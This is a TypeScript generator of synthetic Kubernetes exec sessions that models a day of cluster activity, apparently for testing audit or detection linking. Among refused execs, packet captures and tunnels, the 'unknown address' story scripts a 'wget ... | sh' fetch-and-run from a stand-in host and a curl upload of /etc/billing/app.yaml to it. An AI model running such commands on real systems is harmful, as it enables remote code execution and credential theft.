/** The other stories of the full sample (generate.ts): an ordinary day, with what makes linking hard. */
import { type At, HOUR, MINUTE, SECOND } from './log';
import type { Container } from './node';
import { type SessionPlan, step } from './session';
import type { World } from './world';

/** An address outside every network of the sample's clusters. */
const UNKNOWN = '192.0.2.77';

const at = (h: number, m: number, s: number): At => Math.round(h * HOUR + m * MINUTE + s * SECOND);
const base = { tty: false, transport: 'websocket', rest: 0.2, steps: [] } as const;
const capture = (n: number) => ['tcpdump', '-ni', 'eth0', '-c', String(n), '-w', '/tmp/gw.pcap'];

export function dayOfWork(world: World): SessionPlan[] {
  const day = dayOf(world);
  return [...captures(day), ...refusals(day), ...withoutTrace(day), ...oddProcesses(day), ...longSessions(day)];
}

type Day = ReturnType<typeof dayOf>;

/** Who is at work, and where. */
function dayOf(world: World) {
  const oncall = world.human('oncall-2', 'oncall', '203.0.113.61');
  const first = world.human('oncall-1', 'oncall', '203.0.113.60');
  const old = world.human('mira', 'dev-shop', '203.0.113.24', 'kubectl/v1.31.0 (windows/amd64) kubernetes/9edcffc');
  const runner = world.serviceAccount('platform', 'ci-runner', '10.244.3.77', 'kubectl/v1.29.3 (linux/amd64) kubernetes/6813625');
  const prod = (namespace: string, workload: string, n = 0): Container => world.container('prod-eu', namespace, workload, n);
  return { world, oncall, first, old, runner, prod, gateway: prod('payments', 'gateway') };
}

/** Whoever looks at a network, and takes the capture home. */
function captures({ gateway, oncall }: Day): SessionPlan[] {
  return [
    {
      ...base,
      story: 'tcpdump',
      user: oncall,
      container: gateway,
      command: ['sh'],
      tty: true,
      at: at(8, 31, 12.44),
      rest: 12,
      steps: [
        step(9, capture(500), 48, { alert: 'packetSocket', acts: [{ write: '/tmp/gw.pcap', after: 1.2 }] }),
        step(14, ['tcpdump', '-nr', '/tmp/gw.pcap'], 0.4, { alert: 'networkTool' }),
      ],
    },
    {
      ...base,
      story: 'tcpdump',
      user: oncall,
      container: gateway,
      command: capture(200),
      at: at(8, 40, 1.02),
      rest: 31,
      acts: [{ write: '/tmp/gw.pcap', after: 0.9 }],
    },
    {
      ...base,
      story: 'kubectl cp',
      kind: 'cp',
      user: oncall,
      container: gateway,
      command: ['tar', 'cf', '-', '/tmp/gw.pcap'],
      at: at(8, 44, 30.7),
      rest: 0.4,
    },
  ];
}

/** What the server refused: attempts, and those that an old client makes over a websocket before it falls back. */
function refusals({ prod, gateway, runner, old, world }: Day): SessionPlan[] {
  return [
    {
      ...base,
      story: 'refused exec',
      user: runner,
      container: gateway,
      command: ['sh'],
      tty: true,
      at: at(14, 4, 6.220431),
      outcome: 'refused',
      transport: 'spdy',
    },
    {
      ...base,
      story: 'refused exec',
      user: world.human('temp-contractor', 'contractors', '198.51.100.140'),
      container: prod('payments', 'vault-sync'),
      command: ['cat', '/etc/vault/token'],
      at: at(2, 13, 44.9),
      outcome: 'refused',
    },
    {
      ...base,
      story: 'websocket always refused',
      user: old,
      container: prod('shop', 'cart', 1),
      command: ['sh'],
      tty: true,
      at: at(9, 2, 3.3),
      refusedFirst: true,
      transport: 'spdy',
      rest: 8,
      steps: [step(4, ['env'], 0.01), step(6, ['df', '-h'], 0.01)],
    },
    {
      ...base,
      story: 'websocket always refused',
      user: old,
      container: prod('shop', 'checkout'),
      command: ['ls', '-la', '/srv'],
      at: at(13, 48, 40.1),
      refusedFirst: true,
      transport: 'spdy',
    },
    {
      ...base,
      story: 'websocket always refused',
      user: old,
      container: prod('shop', 'cart'),
      command: ['sh', '-c', 'date; ls /srv'],
      at: at(17, 22, 11.8),
      refusedFirst: true,
      transport: 'spdy',
      steps: [step(0.004, ['date'], 0.002), step(0.002, ['ls', '/srv'], 0.003)],
    },
  ];
}

/** What no process is seen of: a command that is not there, and one in the silence of an agent. */
function withoutTrace({ prod, first }: Day): SessionPlan[] {
  return [
    {
      ...base,
      story: 'command not found',
      user: first,
      container: prod('kube-system', 'coredns'),
      command: ['/bin/bash'],
      tty: true,
      at: at(10, 51, 20.6),
      outcome: 'no-process',
      rest: 0.21,
    },
    {
      ...base,
      story: 'silence',
      user: first,
      container: prod('shop', 'checkout'),
      command: ['bash'],
      tty: true,
      at: at(9, 40, 17.2),
      rest: 90,
      steps: [step(20, ['cat', '/etc/hosts'], 0.004)],
    },
  ];
}

/** Processes that are not what was asked for, or not where and when: one that becomes another, outlives its session, or calls out. */
function oddProcesses({ prod, first, world }: Day): SessionPlan[] {
  return [
    {
      ...base,
      story: 'wrapper',
      user: world.human('dba-rotation', 'dba', '203.0.113.88'),
      container: prod('billing', 'ledger'),
      command: ['sh', '-c', 'exec env STEP=7 /opt/ledger/migrate --to 41'],
      at: at(6, 15, 0.4),
      rest: 14,
      becomes: [
        ['env', 'STEP=7', '/opt/ledger/migrate', '--to', '41'],
        ['/opt/ledger/migrate', '--to', '41'],
      ],
      acts: [{ connect: '10.244.3.20', port: 5432, after: 0.3, lasts: 13 }],
    },
    {
      ...base,
      story: 'outlives',
      user: first,
      container: prod('billing', 'ledger', 1),
      command: ['bash'],
      tty: true,
      at: at(19, 5, 31.5),
      rest: 3.1,
      steps: [
        step(7, ['nohup', '/tmp/sync-ledger', '--loop'], 2400, {
          background: true,
          becomes: [['/tmp/sync-ledger', '--loop']],
          acts: [1, 600, 1200, 1800].map((after) => ({ connect: UNKNOWN, port: 8443, after, lasts: 2, odd: true })),
        }),
        step(5, ['ps', 'aux'], 0.02),
      ],
    },
    {
      ...base,
      story: 'unknown address',
      user: world.human('svc-report', 'dev-billing', '198.51.100.9'),
      container: prod('billing', 'billing-api', 1),
      command: ['sh', '-c', `wget -qO- http://${UNKNOWN}:8443/i | sh`],
      at: at(3, 27, 55.01),
      rest: 1.4,
      steps: [
        step(0.01, ['wget', '-qO-', `http://${UNKNOWN}:8443/i`], 0.7, {
          acts: [{ connect: UNKNOWN, port: 8443, after: 0.02, lasts: 0.6, odd: true }],
        }),
        step(0.005, ['sh'], 1.2, {
          children: [
            step(0.3, ['curl', '-s', '-T', '/etc/billing/app.yaml', `http://${UNKNOWN}:8443/u`], 0.5, {
              acts: [{ connect: UNKNOWN, port: 8443, after: 0.02, lasts: 0.4, odd: true }],
            }),
          ],
        }),
      ],
    },
  ];
}

/** Sessions that go on: a tunnel, and one that is open when the day ends. */
function longSessions({ prod, first, world }: Day): SessionPlan[] {
  return [
    {
      ...base,
      story: 'port-forward',
      kind: 'port-forward',
      user: first,
      container: prod('monitoring', 'grafana'),
      command: [],
      at: at(7, 50, 9.9),
      rest: 1260,
    },
    {
      ...base,
      story: 'still open',
      user: world.human('noc-screen', 'oncall', '203.0.113.70'),
      container: prod('monitoring', 'prometheus'),
      command: ['sh'],
      tty: true,
      at: at(23, 41, 3.7),
      open: true,
      rest: 900,
      steps: [step(30, ['ls', '/prometheus'], 0.004)],
    },
  ];
}
